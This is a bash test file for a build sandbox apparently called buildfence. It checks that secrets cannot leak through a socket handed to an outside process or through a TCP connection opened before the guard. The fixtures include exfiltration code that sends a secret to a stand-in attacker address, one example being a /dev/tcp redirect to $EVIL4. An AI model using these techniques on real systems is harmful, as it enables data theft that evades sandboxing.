# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# Sockets that change hands: a guard that asks who sends, and not whose socket it is, loses sight of them.

# A process outside the job, on the other end of a UNIX socket, that sends with what it is handed.
accomplice() {
	cat >"$CASE/accomplice.py" <<-'END'
	import os, socket
	server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
	server.bind(os.environ["CASE"] + "/door")
	server.listen()
	while True:
	    peer = server.accept()[0]
	    message, descriptors, _, _ = socket.recv_fds(peer, 100, 1)
	    sock = socket.socket(fileno=descriptors[0])
	    try:
	        sock.sendto(message, ("203.0.113.66", 9999))
	        peer.sendall(b"sent")
	    except OSError as error:
	        peer.sendall(str(error).encode())
	END
	in_agent "$PYTHON" "$CASE/accomplice.py" &
	wait_until 10 test -S "$CASE/door" || fail "the accomplice did not start"
}

test_a_socket_of_the_job_stays_guarded_in_another_process() {
	attack <<-'END'
	import os, socket, sys
	import job
	door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
	door.connect(os.environ["CASE"] + "/door")
	own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	socket.send_fds(door, [job.SECRET], [own.fileno()])
	answer = door.recv(100)
	print(answer.decode(), file=sys.stderr)
	raise SystemExit(0 if answer == b"sent" else 1)
	END
	policy_feed
	accomplice
	verdict not-allowed "${ATTACK[@]}"
}

# The shell that starts buildfence holds a connection older than the guard: the job must not get it.
test_a_connection_older_than_the_guard_is_not_inherited() {
	policy_feed
	cat >"$CASE/older" <<-END
	exec 9>/dev/tcp/$EVIL4/8080 || exit 1
	"\$@"
	END
	local send="printf %s '$SECRET' >&9"
	unguarded bash "$CASE/older" bash -c "$send"
	arrived "$SECRET"
	seen_anew
	in_agent bash "$CASE/older" "$BUILDFENCE" run --policy "$CASE/policy.yaml" -- bash -c "$send" >"$CASE/out" 2>"$CASE/err"
	STATUS=$?
	status_is_not 0
	nothing_arrived "$SECRET"
}
